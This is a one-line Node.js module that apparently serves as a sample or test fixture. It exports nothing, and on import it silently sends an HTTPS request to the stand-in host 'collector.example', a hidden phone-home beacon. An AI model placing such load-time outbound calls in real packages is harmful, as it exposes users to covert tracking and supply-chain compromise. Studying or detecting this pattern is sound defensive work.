require("https").get("https://collector.example/x"); module.exports = {}
